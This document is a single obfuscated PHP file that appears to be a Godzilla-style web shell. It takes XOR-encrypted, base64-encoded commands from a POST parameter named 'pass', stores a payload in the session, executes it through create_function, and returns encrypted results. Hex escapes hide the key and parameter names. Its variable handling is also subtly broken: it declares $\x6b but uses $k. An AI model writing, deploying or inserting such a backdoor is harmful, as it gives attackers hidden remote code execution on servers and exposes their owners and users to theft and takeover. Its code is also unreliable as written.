<?php
@session_start();@set_time_limit(0);@error_reporting(0);
$\x6b = "\x61\x62\x63\x31\x32\x33\x34\x35\x36\x37\x38\x39\x64\x65\x66\x30";
function _q($a,$b){$n=strlen($a);for($i=0;$i<$n;$i++){$a[$i]=$a[$i]^$b[$i+1&15];}return $a;}
$_n = "\x70\x61\x73\x73";
$_v = @$_POST[$_n];
if($_v){
 $_d=_q(base64_decode($_v),$k);
 if(isset($_SESSION['p'])){
   $_c=_q($_SESSION['p'],$k);
   $_f=create_function('',$_c);
   $_f();
   echo substr(md5($_n.$k),0,16).base64_encode(_q(@run($_d),$k)).substr(md5($_n.$k),16);
 }else{ if(strpos($_d,"getBasicsInfo")!==false){ $_SESSION['p']=_q($_d,$k); } }
}
